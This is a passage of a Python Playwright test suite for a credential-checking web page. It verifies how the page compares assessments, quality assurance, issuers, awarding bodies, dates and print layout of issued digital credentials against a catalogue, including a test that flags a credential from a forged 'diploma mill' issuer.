            str(said["assessment_differs"]).split("{title}")[0] + theirs["title"]["en"]
        ), note
        for aspect in expected:
            assert aspect in note, (aspect, note)
    assert len(notes) == len(spec(older)), notes
    since = str(said["since_same"]).format(current=newer)
    expect(page.locator(".credcat-check__status")).to_contain_text(since)


def test_an_assessment_stated_in_part_is_not_called_the_same(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A credential whose exam says nothing of its supervision: the row is "Same as far as
    stated", its note names what is not stated, and the verdict is no match but a match in
    what it states, naming the assessment as stated in part."""
    changed = json.loads(json.dumps(issued))
    claim_of(changed)["provenBy"][0].pop("idVerification")
    open_check(page, sample_site)
    paste(page, json.dumps(changed))
    assert verdict(page) == "partial", output_text(page)
    row = page.locator('[data-credcat-row="assessment"]')
    expect(row).to_have_attribute("data-credcat-result", "partial")
    result = row.locator("td").last
    expect(result.locator("strong")).to_have_text("Same as far as stated")
    expect(result).to_contain_text(
        "Not stated in the credential for Practical SQL exam in the computer lab: "
        "supervision and identity check"
    )
    assert "supervision and identity check not stated" in assessment_lines(page, 0)[0]
    expect(page.locator(".credcat-check__unstated-fields")).to_have_text(
        "Not stated in the credential: How it was assessed (in part). The table shows what "
        "the catalogue published for them."
    )


@pytest.mark.parametrize("lang", ["", "de/"])
def test_a_credential_that_does_not_say_how_it_was_assessed_says_so(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """Neither the holder's assessments nor its specification's: the row says "Not stated in
    the credential" beside what the catalogue published, and the verdict names it."""
    said = open_check_in(page, sample_site, lang)
    bare = json.loads(json.dumps(issued))
    claim_of(bare).pop("provenBy")
    claim_of(bare)["specifiedBy"].pop("provenBy")
    paste(page, json.dumps(bare))
    assert verdict(page) == "partial", output_text(page)
    row = page.locator('[data-credcat-row="assessment"]')
    expect(row).to_have_attribute("data-credcat-result", "unstated")
    expect(row.locator("td").first).to_have_text(str(said["not_stated"]))
    expect(row.locator("td").last).to_have_text(str(said["unstated"]))
    assert len(assessment_lines(page, 1)) == 2
    expect(page.locator(".credcat-check__unstated-fields")).to_contain_text(
        str(said["field_assessment"])
    )


def test_an_assessments_description_or_grading_changed_differs(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """How an assessment is made is also in its description (which says how it is supervised
    and which outcomes it proves) and its grading: a copy whose description was changed, in
    one language only, or whose grading was, does not match, and the note names it."""
    exam = "Practical SQL exam in the computer lab"
    open_check(page, sample_site)
    described = json.loads(json.dumps(issued))
    spec = claim_of(described)["provenBy"][0]["specifiedBy"]
    assert spec["title"]["en"] == exam and {"en", "de"} <= set(spec["description"])
    spec["description"]["de"] += " Hilfsmittel sind erlaubt."
    paste(page, json.dumps(described))
    assert verdict(page) == "differences", output_text(page)
    result = page.locator('[data-credcat-row="assessment"] td').last
    expect(result).to_contain_text(f"Differs for {exam}: description")

    graded = json.loads(json.dumps(issued))
    scheme = claim_of(graded)["provenBy"][0]["specifiedBy"]["gradingScheme"]
    scheme["description"]["en"] = "Pass/fail."
    paste(page, json.dumps(graded))
    assert verdict(page) == "differences", output_text(page)
    expect(result).to_contain_text(f"Differs for {exam}: grading")
    assert "grading: Pass/fail." in assessment_lines(page, 0)[0]


def test_quality_assurance_is_compared(page: Page, sample_site: Site, issued: dict[str, Any]):
    """The quality assurance the credential states (its specification's accreditations) beside
    what the catalogue published: the same as issued; a changed description or expiry date, an
    accreditation left out or another one added differs and is named; none at all is "Not
    stated"."""
    cred = sample_site.catalogue.credentials[CID]
    accreditation = claim_of(issued)["specifiedBy"]["accreditation"]
    assert len(accreditation) == len(cred.quality_assurance) == 2
    first = accreditation[0]["title"]["en"]
    second = accreditation[1]["title"]["en"]
    open_check(page, sample_site)
    paste(page, json.dumps(issued))
    row = page.locator('[data-credcat-row="quality"]')
    expect(row).to_have_attribute("data-credcat-result", "same")
    expect(row.locator("th")).to_have_text("Quality assurance")
    published = [
        re.sub(r"\s+", " ", t) for t in row.locator("td").nth(1).locator("li").all_inner_texts()
    ]
    assert published[0] == (
        f"{first}: Qualitas – Agency for Accreditation and Quality Assurance"
        " · valid until 30 September 2031"
    ), published
    assert published[1].startswith(f"{second}: Hochschule Rheinau"), published

    result = row.locator("td").last

    def changed(change: Any) -> None:
        copy = json.loads(json.dumps(issued))
        change(claim_of(copy)["specifiedBy"])
        paste(page, json.dumps(copy))

    def describe(spec: dict[str, Any]) -> None:
        spec["accreditation"][0]["description"]["en"] = "Accredited by the ministry."

    changed(describe)
    assert verdict(page) == "differences", output_text(page)
    expect(row).to_have_attribute("data-credcat-result", "differs")
    expect(result).to_contain_text(f"Differs for {first}: description")

    def extend(spec: dict[str, Any]) -> None:
        spec["accreditation"][0]["expiryDate"] = "2035-09-30T23:59:59Z"

    changed(extend)
    expect(result).to_contain_text(f"Differs for {first}: expiry date")
    expect(row.locator("td").first).to_contain_text("valid until 30 September 2035")

    changed(lambda spec: spec["accreditation"].pop(1))
    expect(result).to_contain_text(f"Not in the credential: {second}")

    def add(spec: dict[str, Any]) -> None:
        extra = json.loads(json.dumps(spec["accreditation"][1]))
        extra["id"] = "urn:epass:accreditation:99"
        extra["title"] = {"en": "ISO 9001 certificate"}
        spec["accreditation"].append(extra)

    changed(add)
    expect(result).to_contain_text("Not published by the catalogue: ISO 9001 certificate")

    changed(lambda spec: spec.pop("accreditation"))
    assert verdict(page) == "partial", output_text(page)
    expect(row).to_have_attribute("data-credcat-result", "unstated")
    expect(page.locator(".credcat-check__unstated-fields")).to_contain_text("Quality assurance")


@pytest.mark.parametrize("lang", ["", "de/"])
def test_outcomes_are_numbered_as_the_summary_numbers_them(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """The version's files list the outcomes in the order of its YAML file; its pages number
    them knowledge first, then skills, then responsibility and autonomy, and the summary for
    employers cites them by those numbers ("proves 1, 3 and 4"). The comparison lists both
    columns in the pages' order, with the summary's numbers."""
    said = open_check_in(page, sample_site, lang)
    code = lang.rstrip("/") or "en"
    cred = sample_site.catalogue.credentials[CID]
    in_file = [o.text[code] for o in cred.outcomes]
    in_pages = [o.text[code] for o in ordered_outcomes(cred)]
    assert in_file != in_pages  # the sample's file puts a skill first
    paste(page, json.dumps(issued))
    expected = [(str(n), text) for n, text in enumerate(in_pages, start=1)]
    assert numbered(page, "outcomes", 1) == expected
    assert numbered(page, "outcomes", 0) == expected
    # the summary of the version, which the result links, numbers them so
    page.get_by_role(
        "link", name=str(said["link_summary"]).format(version=VERSION), exact=True
    ).click()
    items = page.locator("[data-credcat-summary-outcome]")
    expect(items).to_have_count(len(expected))  # once the summary has loaded
    summary = [
        (items.nth(n).get_attribute("value") or "", re.sub(r"\s+", " ", items.nth(n).inner_text()))
        for n in range(items.count())
    ]
    assert summary == expected


@pytest.mark.parametrize("lang", ["", "de/", "fr/"])
def test_without_javascript_the_page_says_what_can_be_done(
    new_context: NewContext, sample_site: Site, lang: str
):
    """Without JavaScript the form cannot read a credential: the page says so, and what can be
    done by hand, in the page's language: open the version's permanent address, which the
    credential names (its beginning shown), or find the credential in the catalogue, linked."""
    context, _ = new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(sample_site.url(f"{lang}check/"))
    said = ui_strings(lang.rstrip("/") or "en")["check"]
    expect(page.locator("#credcat-check-form")).to_be_hidden()
    help_ = page.locator("#credcat-check-nojs")
    expect(help_).to_be_visible()
    expect(help_).to_contain_text(str(said["nojs"]))
    base = "https://credentials.digital-skills-alliance.eu/"  # the site, whose pages they are
    before, after = str(said["nojs_help"]).split("{catalogue}")
    expect(help_).to_contain_text(before.format(base=base))
    expect(help_).to_contain_text(after)
    # on a phone too, within the screen's width
    page.set_viewport_size({"width": 375, "height": 800})
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 375
    catalogue = help_.get_by_role("link", name=str(said["nojs_catalogue"]), exact=True)
    catalogue.click()
    expect(page.locator("#credcat-catalogue")).to_be_visible()
    assert page.url == sample_site.url(f"{lang}catalogue/")


@pytest.mark.parametrize(
    ("lang", "day", "when"),
    [
        ("", 20, "20 October 2026 at 14:30"),
        ("de/", 20, "20. Oktober 2026 um 14:30"),
        ("fr/", 1, "1er octobre 2026 à 14:30"),  # as the site's French dates write the first
    ],
)
def test_the_result_says_when_and_what_was_checked(
    new_context: NewContext,
    sample_site: Site,
    issued: dict[str, Any],
    lang: str,
    day: int,
    when: str,
):
    """Above the verdict, on screen and on paper: the date and time of the check, as the
    site's pages write dates, and the name of the file checked (or that the text was pasted).
    Printed, the result's heading, which has the focus after a check, has no focus outline,
    and the result is one A4 page."""
    context, _ = new_context(timezone_id="Europe/Berlin")
    page = context.new_page()
    page.clock.set_fixed_time(datetime(2026, 10, day, 12, 30, tzinfo=UTC))
    said = open_check_in(page, sample_site, lang)
    page.set_input_files(
        "#credcat-check-file",
        files=[
            {
                "name": "maria-muster-sql.json",
                "mimeType": "application/json",
                "buffer": json.dumps(issued).encode(),
            }
        ],
    )
    expect(page.locator("#credcat-check-output")).to_have_attribute("data-credcat-verdict", "match")
    line = page.locator(".credcat-check__when")
    expect(line).to_have_text(
        str(said["checked_file"]).format(date=when, name="maria-muster-sql.json")
    )
    assert line.get_attribute("data-credcat-checked") == f"2026-10-{day:02d}T12:30:00.000Z"
    paste(page, json.dumps(issued))
    expect(line).to_have_text(str(said["checked_text"]).format(date=when))
    heading = page.locator("#credcat-check-result-heading")
    assert heading.evaluate("h => document.activeElement === h")
    page.emulate_media(media="print")
    expect(line).to_be_visible()
    style = heading.evaluate(
        "h => { const s = getComputedStyle(h); return [s.outlineStyle, s.boxShadow]; }"
    )
    assert style[0] == "none" and style[1] == "none", style
    pdf = page.pdf(format="A4")
    assert pdf_pages(pdf) == 1


def test_the_column_headers_are_no_sort_buttons(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """The headers' roles (for the phone layout) made Material style them as sortable ones: a
    pointer, and an empty sort icon on a line of its own below "Result". The table is not
    sortable: the headers look it, and the header row is one line tall."""
    open_check(page, sample_site)
    paste(page, json.dumps(issued))
    headers = page.locator(".credcat-check__table thead th")
    styles = headers.evaluate_all(
        "ths => ths.map(th => "
        "[getComputedStyle(th).cursor, getComputedStyle(th, '::after').content])"
    )
    assert styles == [["auto", "none"]] * 4, styles
    lines = headers.evaluate_all(
        """ths => ths.map(th => {
            const cs = getComputedStyle(th);
            const padding = parseFloat(cs.paddingTop) + parseFloat(cs.paddingBottom);
            return Math.round((th.clientHeight - padding) / parseFloat(cs.lineHeight));
        })"""
    )
    assert lines == [1, 1, 1, 1], lines


# --- print ------------------------------------------------------------------------------------


def words_to_print(cred: Credential, lang: str) -> int:
    """How much a comparison of ``cred`` prints in ``lang``: its outcomes and its assessments'
    titles and grading, as the page shows them twice (the credential's and the catalogue's)."""
    texts = [o.text for o in cred.outcomes]
    texts += [t for a in cred.assessments for t in (a.title, a.grading) if t]
    return sum(len(text.get(lang) or text.get("en", "")) for text in texts)


@pytest.mark.parametrize("lang", ["", "de/", "fr/"])
def test_a_result_prints_on_one_a4_page(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str, screenshot_dir: Path
):
    """Printed, the check page with a typical result (the sample's SQL credential: five
    outcomes, two assessments, three languages) is one A4 page in English, German and French
    (it was two in English and four in German, before how it was assessed was among it); the
    credential with the most to print, two at most. The result is all there: only the form,
    how to use it and the links for the screen are left out."""
    open_check_in(page, sample_site, lang)
    paste(page, json.dumps(issued))
    page.emulate_media(media="print")
    left_out = ("#credcat-check-form", ".credcat-lead", ".credcat-check__privacy")
    for selector in (*left_out, ".credcat-check__links"):
        assert page.locator(selector).evaluate("e => !e.checkVisibility()"), selector
    for selector in ("#credcat-check-seal", ".credcat-check__verdict", "[data-credcat-status]"):
        expect(page.locator(selector)).to_be_visible()
    rows = page.locator("[data-credcat-row]")
    expect(rows).to_have_count(len(ROWS))
    shown = page.locator(".credcat-check__table :is(th, td, li)")
    assert shown.evaluate_all("els => els.every(e => e.checkVisibility())")
    pdf = page.pdf(format="A4")
    (screenshot_dir / f"check-{lang.rstrip('/') or 'en'}.pdf").write_bytes(pdf)
    pages = pdf_pages(pdf)
    print(f"check page with a result ({lang or 'en'}): {pages} A4 page(s)")
    assert pages == 1, f"the result prints on {pages} A4 pages"

    page.emulate_media(media="screen")
    code = lang.rstrip("/") or "en"
    credentials = sample_site.catalogue.credentials.values()
    wordiest = max(
        (c for c in credentials if c.status != "draft"), key=lambda c: words_to_print(c, code)
    )
    paste(page, json.dumps(fx.issued_edc(sample_site.root, wordiest.id, wordiest.version)))
    assert verdict(page) == "match", output_text(page)
    page.emulate_media(media="print")
    pages = pdf_pages(page.pdf(format="A4"))
    print(f"the wordiest, {wordiest.id} ({lang or 'en'}): {pages} A4 page(s)")
    assert pages <= 2, f"{wordiest.id} prints on {pages} A4 pages"


# --- who issued it ----------------------------------------------------------------------------


def test_the_issuer_is_compared_with_the_awarding_bodies(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """The credential's issuer (its name and id) is shown beside the awarding bodies the
    catalogue names for the version, and compared with them by id and by name: an EDC or an
    Open Badge issued by another organisation (its awarding body untouched), or by the same id
    under another name, is no match, and the page says plainly that the catalogue names
    another awarding body."""
    said = ui_strings("en")["check"]
    cat = sample_site.catalogue
    body = cat.organisations[cat.credentials[CID].awarding_body[0]]
    name = body.name["en"]
    row = page.locator('[data-credcat-row="issuer"]')
    open_check(page, sample_site)
    paste(page, json.dumps(issued))
    assert verdict(page) == "match", output_text(page)
    expect(row).to_have_attribute("data-credcat-result", "same")
    expect(row.locator("th")).to_have_text(str(said["field_issuer"]))
    shown = str(said["org_with_id"]).format(name=name, id=issued["issuer"]["id"])
    expect(row.locator("td").first).to_have_text(shown)
    expect(page.locator(".credcat-check__issuer")).to_have_count(0)

    mill = fx.DIPLOMA_MILL["legalName"]["en"]
    newer = cat.credentials["data-analysis-python"]
    for credential in (
        fx.with_issuer(issued, fx.DIPLOMA_MILL),
        fx.with_issuer(fx.issued_edc(sample_site.root, newer.id, newer.version), fx.DIPLOMA_MILL),
    ):
        assert credential["credentialSubject"]["hasClaim"]["awardedBy"]  # untouched
        paste(page, json.dumps(credential))
        assert verdict(page) == "differences", output_text(page)
        expect(row).to_have_attribute("data-credcat-result", "differs")
        expect(row.locator("td").first).to_contain_text(mill)
        expect(row.locator("td").last).to_contain_text(str(said["issuer_other"]))
        expect(page.locator('[data-credcat-row="awarding"]')).to_have_attribute(
            "data-credcat-result", "same"
        )
        plainly = page.locator(".credcat-check__issuer")
        expect(plainly).to_contain_text(mill)
        expect(plainly).to_contain_text(name)

    paste(page, json.dumps(fx.renamed_issuer(issued, mill)))
    assert verdict(page) == "differences", output_text(page)
    expect(row.locator("td").last).to_contain_text(
        str(said["assessment_differs"]).format(title=name, aspects=said["aspect_name"])
    )

    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    paste(page, json.dumps(badge))
    assert verdict(page) == "match", output_text(page)
    expect(row).to_have_attribute("data-credcat-result", "same")
    profile = {"id": "https://diploma-mill.example/", "type": ["Profile"], "name": mill}
    for changed in (fx.with_issuer(badge, profile), fx.renamed_issuer(badge, mill)):
        paste(page, json.dumps(changed))
        assert verdict(page) == "differences", output_text(page)
        expect(row).to_have_attribute("data-credcat-result", "differs")
        expect(page.locator(".credcat-check__issuer")).to_contain_text(mill)
    assert_no_axe_violations(page, "check page, another issuer")


def test_the_awarding_body_is_compared_by_name_too(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """An awarding body with the catalogue's id but another name (in English, or in German
    alone) differs, and the note names it and the catalogue's name in that language, as titles
    are compared in every language both state; the same for an Open Badge's creator."""
    said = ui_strings("en")["check"]
    cat = sample_site.catalogue
    body = cat.organisations[cat.credentials[CID].awarding_body[0]]
    mill = fx.DIPLOMA_MILL["legalName"]["en"]
    row = page.locator('[data-credcat-row="awarding"]')
    note = str(said["assessment_differs"]).format(
        title=body.name["en"], aspects=said["aspect_name"]
    )
    open_check(page, sample_site)
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    for lang, credential in (
        ("en", fx.renamed_awarding_body(issued, mill, "en")),
        ("de", fx.renamed_awarding_body(issued, mill, "de")),
        ("", fx.renamed_awarding_body(badge, mill, "")),
    ):
        paste(page, json.dumps(credential))
        assert verdict(page) == "differences", output_text(page)
        expect(row).to_have_attribute("data-credcat-result", "differs")
        expect(row.locator("td").last).to_contain_text(note)
        # the name it states, where the page shows it or in the note
        expect(row).to_contain_text(mill)
        if lang in ("en", "de"):  # the note shows both names, the catalogue's and the one stated
            expect(row.locator("td").last).to_contain_text(
                str(said["outcome_reworded"]).format(
                    languages=Locale.parse("en").languages[lang],
                    text=mill,
                    published=body.name[lang],
                )
            )
        if lang == "de":
            names = row.locator("td").last.locator('span[lang="de"]')
            expect(names).to_have_text([mill, body.name["de"]])
    paste(page, json.dumps(issued))
    expect(row).to_have_attribute("data-credcat-result", "same")


def test_an_organisation_named_as_it_was_when_versions_were_released_is_the_same(
    page: Page, tmp_path_factory: pytest.TempPathFactory
):
    """An awarding body renamed after a release (its name: edited, as maintainers.md says):
    a credential issued before names its issuer and awarding body as they were named then.
    With their own id and that name (the one the release recorded, in the language it
    changed in), they are the same organisation: the rows are the same, each with a note
    that gives the name now; an EDC and an Open Badge alike. A name the organisation never
    had, with the same id, still differs, as does the old name in one language beside
    another name in the other."""
    from tests.catalogue_factory import write_catalogue  # as conftest.small_site imports it

    old, new = "Alpha University", "Alpha University of Applied Sciences"

    def write(root: Path) -> Path:
        write_catalogue(root)
        assert main(["release", "databases", str(root), "--date", "2026-09-01"]) == 0
        org = root / "organisations" / "alpha-uni.yaml"
        text = org.read_text("utf-8")
        assert text.count(f"en: {old}\n") == 1
        org.write_text(text.replace(f"en: {old}\n", f"en: {new}\n"), "utf-8")
        return root

    said = ui_strings("en")["check"]
    note = str(said["former_name"]).format(name=old, now=new)
    issuer = page.locator('[data-credcat-row="issuer"]')
    awarding = page.locator('[data-credcat-row="awarding"]')
    for site in site_of(tmp_path_factory, "check-renamed", write):
        current = fx.issued_edc(site.root, "databases", "1.0")  # the template names it now
        then = fx.renamed_awarding_body(fx.issuer_named(current, old, "en"), old, "en")
        badge = fx.ob3_credential(site.root, "databases", "1.0")
        badge_then = fx.renamed_awarding_body(fx.issuer_named(badge, old, ""), old, "")
        open_check(page, site)
        for credential in (then, badge_then):
            paste(page, json.dumps(credential))
            assert verdict(page) == "match", output_text(page)
            for row in (issuer, awarding):
                expect(row).to_have_attribute("data-credcat-result", "same")
                expect(row.locator("td").last).to_contain_text(note)
            expect(issuer.locator("td").first).to_contain_text(old)
            expect(page.locator(".credcat-check__issuer")).to_have_count(0)
        assert_no_axe_violations(page, "check page, an issuer named as it was")
        paste(page, json.dumps(current))  # named as it is now: no note
        assert verdict(page) == "match", output_text(page)
        expect(issuer.locator("td").last).not_to_contain_text(note)
        mill = fx.DIPLOMA_MILL["legalName"]["en"]
        for credential in (
            fx.issuer_named(current, mill, "en"),  # a name it never had
            fx.issuer_named(then, "Alpha-Mühle", "de"),  # the old name beside another
            fx.issuer_named(badge, mill, ""),
        ):
            paste(page, json.dumps(credential))
            assert verdict(page) == "differences", output_text(page)
            expect(issuer).to_have_attribute("data-credcat-result", "differs")
            expect(issuer.locator("td").last).not_to_contain_text(note)
        # the German page says it in German, the names marked with their language
        page.goto(site.url("de/check/"))
        expect(page.locator("#credcat-check-form")).to_be_visible()
        paste(page, json.dumps(then))
        german = ui_strings("de")["check"]
        expect(issuer.locator("td").last).to_contain_text(
            str(german["former_name"]).format(name=old, now=new)
        )
        expect(issuer.locator('td li span[lang="en"]')).to_have_text([old, new])
        page.goto("about:blank")  # leave the site before its server stops


def test_the_note_on_an_earlier_name_is_in_the_pages_language(
    page: Page, tmp_path_factory: pytest.TempPathFactory
):
    """An organisation renamed in two languages after a release, and a credential naming it
    as it was in both, German first (a credential lists its languages in any order): the
    English page's note gives the English names, the German page's the German ones, so that
    the note names the names its row shows."""
    from tests.catalogue_factory import write_catalogue  # as conftest.small_site imports it

    names = {
        "en": ("Alpha University", "Alpha University of Applied Sciences"),
        "de": ("Alpha-Universität", "Alpha-Hochschule"),
    }

    def write(root: Path) -> Path:
        write_catalogue(root)
        assert main(["release", "databases", str(root), "--date", "2026-09-01"]) == 0
        org = root / "organisations" / "alpha-uni.yaml"
        text = org.read_text("utf-8")
        for lang, (old, new) in names.items():
            assert text.count(f"{lang}: {old}\n") == 1
            text = text.replace(f"{lang}: {old}\n", f"{lang}: {new}\n")
        org.write_text(text, "utf-8")
        return root

    awarding = page.locator('[data-credcat-row="awarding"]')
    for site in site_of(tmp_path_factory, "check-renamed-twice", write):
        then = fx.issued_edc(site.root, "databases", "1.0")
        for lang in ("de", "en"):
            old = names[lang][0]
            then = fx.renamed_awarding_body(fx.issuer_named(then, old, lang), old, lang)
        body = then["credentialSubject"]["hasClaim"]["awardedBy"]["awardingBody"]
        body = body[0] if isinstance(body, list) else body
        body["legalName"] = {k: body["legalName"][k] for k in ("de", "en")}  # German first
        for prefix, lang in (("", "en"), ("de/", "de")):
            page.goto(site.url(f"{prefix}check/"))
            expect(page.locator("#credcat-check-form")).to_be_visible()
            paste(page, json.dumps(then))
            assert verdict(page) == "match", output_text(page)
            note = str(ui_strings(lang)["check"]["former_name"]).format(
                name=names[lang][0], now=names[lang][1]
            )
            expect(awarding).to_have_attribute("data-credcat-result", "same")
            expect(awarding.locator("td").last).to_contain_text(note)
        page.goto("about:blank")  # leave the site before its server stops


def test_a_name_the_same_in_another_language_than_the_pages_says_so(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """An Open Badge names its issuer in the catalogue's default language (English): on the
    German and French pages, whose rows show the organisation's German or French name beside
    it, the rows are the same and a note says that the badge's name is the organisation's
    name in English, so that a different-looking name marked the same does not puzzle the
    reader; an EDC naming its issuer in English alone, the same on the French page. Where
    the row shows the same name on both sides (the English page; an EDC with every
    language), there is no note."""
    cat = sample_site.catalogue
    body = cat.organisations[cat.credentials[CID].awarding_body[0]]
    english = body.name["en"]
    assert body.name["de"] != english and body.name["fr"] != english
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    assert badge["issuer"]["name"] == english
    english_only = copy.deepcopy(issued)
    english_only["issuer"]["legalName"] = {"en": english}
    issuer = page.locator('[data-credcat-row="issuer"]')
    awarding = page.locator('[data-credcat-row="awarding"]')
    for lang, credential, rows in (
        ("de", badge, (issuer, awarding)),
        ("fr", badge, (issuer, awarding)),
        ("fr", english_only, (issuer,)),
    ):
        said = open_check_in(page, sample_site, f"{lang}/")
        note = str(said["name_in_language"]).format(
            language=Locale.parse(lang).languages["en"], name=english
        )
        paste(page, json.dumps(credential))
        assert verdict(page) in ("match", "partial"), output_text(page)
        for row in rows:
            expect(row).to_have_attribute("data-credcat-result", "same")
            expect(row.locator("td").first).to_contain_text(english)
            expect(row.locator("td").nth(1)).to_contain_text(body.name[lang])
            expect(row.locator("td").last).to_contain_text(note)
            expect(row.locator('td:last-child span[lang="en"]')).to_have_text([english])
    assert_no_axe_violations(page, "check page, a name in another language")
    for lang, credential in (("", badge), ("de/", issued)):
        said = open_check_in(page, sample_site, lang)
        paste(page, json.dumps(credential))
        assert verdict(page) in ("match", "partial"), output_text(page)
        for row in (issuer, awarding):
            expect(row).to_have_attribute("data-credcat-result", "same")
            expect(row.locator("td").last).not_to_contain_text(
                str(said["name_in_language"]).split("{")[0]
            )


# --- dates ------------------------------------------------------------------------------------


def test_issue_and_validity_dates_are_read_and_flagged(
    new_context: NewContext, sample_site: Site, issued: dict[str, Any]
):
    """The dates a credential states are shown with how it was read; on the reader's today an
    expired credential (validUntil, expirationDate, a VC-JWT's exp), or one dated after today,
    is flagged beside the verdict; one issued before its version was published (validFrom,
    issuanceDate, a VC-JWT's nbf) differs; a credential naming a status list is told that
    revocation is not checked here."""
    said = ui_strings("en")["check"]
    published = fx.released(sample_site.root, CID, VERSION)
    assert published is not None
    release = datetime.fromisoformat(published)
    today = (release + timedelta(days=30)).replace(hour=12)  # the same day in any zone near
    context, _ = new_context()
    page = context.new_page()
    page.clock.set_fixed_time(today)
    open_check(page, sample_site)

    def iso(when: datetime) -> str:
        return when.isoformat()

    def day(when: datetime) -> str:  # the date as written, as the page shows it
        return f"{when.day} {when:%B %Y}"

    flags = page.locator(".credcat-check__flag")
    row = page.locator('[data-credcat-row="issued"]')
    paste(page, json.dumps(issued))
    assert verdict(page) == "match", output_text(page)
    expect(flags).to_have_count(0)
    expect(row).to_have_count(0)  # issued when the version was published: nothing to say
    expect(page.locator(".credcat-check__dates")).to_contain_text(
        str(said["dates_issued"]).format(date=day(release))
    )

    past = today - timedelta(days=2)
    expired = str(said["flag_expired"]).format(date=day(past), today=day(today))
    for credential in (
        fx.dated(issued, validUntil=iso(past)),
        fx.dated(issued, expirationDate=iso(past)),
    ):
        paste(page, json.dumps(credential))
        expect(page.locator('[data-credcat-flag="expired"]')).to_have_text(expired)
    stamp = int(release.timestamp())
    paste(page, fx.vc_jwt(issued, iss=issued["issuer"]["id"], nbf=stamp, exp=int(past.timestamp())))
    expect(page.locator('[data-credcat-flag="expired"]')).to_have_text(expired)

    later = today + timedelta(days=3)
    paste(page, json.dumps(fx.dated(issued, validFrom=iso(later), issuanceDate=iso(later))))
    expect(page.locator('[data-credcat-flag="not-yet-valid"]')).to_have_text(
        str(said["flag_not_yet_valid"]).format(date=day(later), today=day(today))
    )

    early = release - timedelta(days=1)
    before = str(said["issued_before"]).format(version=VERSION, date=day(release))
    undated = fx.dated(issued, validFrom=None, issuanceDate=None)
    for text in (
        json.dumps(fx.dated(issued, validFrom=iso(early), issuanceDate=iso(early))),
        fx.vc_jwt(undated, nbf=int(early.timestamp())),
    ):
        paste(page, text)
        assert verdict(page) == "differences", output_text(page)
        expect(row).to_have_attribute("data-credcat-result", "differs")
        expect(row.locator("td").last).to_contain_text(before)
        expect(row.locator("td").last).to_contain_text(str(said["issued_early"]))
    paste(page, json.dumps(undated))
    expect(row).to_have_count(0)
    expect(page.locator(".credcat-check__dates")).to_contain_text(
        str(said["dates_issued_unstated"])
    )

    status = {"id": "https://issuer.example/status/1#94567", "type": "StatusList2021Entry"}
    paste(page, json.dumps(fx.dated(issued, credentialStatus=status)))
    expect(page.locator('[data-credcat-flag="status"]')).to_have_text(str(said["flag_status"]))
    assert_no_axe_violations(page, "check page, dates flagged")


# --- one check after another ------------------------------------------------------------------


def submit(page: Page, text: str) -> None:
    """Put a credential in the paste area and press the button, without waiting for the result
    nor clearing the form first (a second check started while the first still runs)."""
    box = page.locator("#credcat-check-text")
    box.evaluate("(el, text) => { el.value = text; el.dispatchEvent(new Event('input')); }", text)
    page.locator("#credcat-check-submit").click()


def test_a_newer_check_is_never_overwritten_by_an_older_one(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A check whose files come slowly (version 1.0's elm.jsonld held back), then another
    started before it ends: the page shows the newer result, and the older one, when it comes,
    is dropped. While a check runs, the previous result is gone and the page says that it is
    reading the credential (aria-busy)."""
    said = ui_strings("en")["check"]
    held: list[Any] = []
    page.route(f"**/credentials/{CID}/1.0/elm.jsonld", lambda route: held.append(route))
    open_check(page, sample_site)
    paste(page, json.dumps(issued))
    assert verdict(page) == "match"
    output = page.locator("#credcat-check-output")
    submit(page, json.dumps(fx.with_version(issued, "1.0")))  # it differs from 1.0
    expect(output).to_have_attribute("aria-busy", "true")
    expect(output).to_have_text(str(said["reading"]))
    expect(output).not_to_have_attribute("data-credcat-verdict", re.compile(".*"))
    for _ in range(100):  # until the slow file is asked for (the route holds it)
        if held:
            break
        page.wait_for_timeout(50)
    assert held, "the slow file was requested"
    submit(page, json.dumps(issued))
    expect(output).to_have_attribute("data-credcat-verdict", "match")
    expect(output).not_to_have_attribute("aria-busy", "true")
    held[0].continue_()
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)
    assert verdict(page) == "match", output_text(page)
    expect(page.locator(".credcat-check__verdict")).to_contain_text(f"version {VERSION} ")


def test_the_specifications_own_assessments_are_compared_too(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """An EDC states each assessment twice: in the holder's LearningAssessment and in its
    specification's provenBy. A copy whose specification's assessment alone was changed (its
    type, its description in one language, its title) differs, as one whose
    LearningAssessment was."""
    said = ui_strings("en")["check"]
    open_check(page, sample_site)
    claim = claim_of(issued)
    taken = claim["provenBy"][0]["specifiedBy"]
    own = claim["specifiedBy"]["provenBy"][0]
    assert own["id"] == taken["id"] and own != {"id": own["id"]}  # stated twice, in full
    exam = taken["title"]["en"]
    other_type = claim["provenBy"][1]["specifiedBy"]["dcType"]  # the other assessment's
    assert other_type["id"] != taken["dcType"]["id"]

    def changed(change: Any) -> None:
        copy = json.loads(json.dumps(issued))
        change(claim_of(copy)["specifiedBy"]["provenBy"][0])
        paste(page, json.dumps(copy))

    row = page.locator('[data-credcat-row="assessment"]')
    cases = {
        "aspect_type": lambda a: a.update(dcType=other_type),
        "aspect_description": lambda a: a["description"].update(
            de=a["description"]["de"] + " Hilfsmittel sind erlaubt."
        ),
        "aspect_grading": lambda a: a["gradingScheme"]["description"].update(en="Pass/fail."),
    }
    for aspect, change in cases.items():
        changed(change)
        assert verdict(page) == "differences", (aspect, output_text(page))
        expect(row).to_have_attribute("data-credcat-result", "differs")
        expect(row.locator("td").last).to_contain_text(
            str(said["assessment_differs"]).format(title=exam, aspects=said[aspect])
        )
    paste(page, json.dumps(issued))
    expect(row).to_have_attribute("data-credcat-result", "same")


# --- what a viewer or a wallet shows ----------------------------------------------------------


def test_what_a_viewer_or_wallet_shows_is_compared(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """An EDC's displayParameter.title (the title the EDC viewer shows), its specification's
    description, an EQF concept whose label names another level than its address; an Open
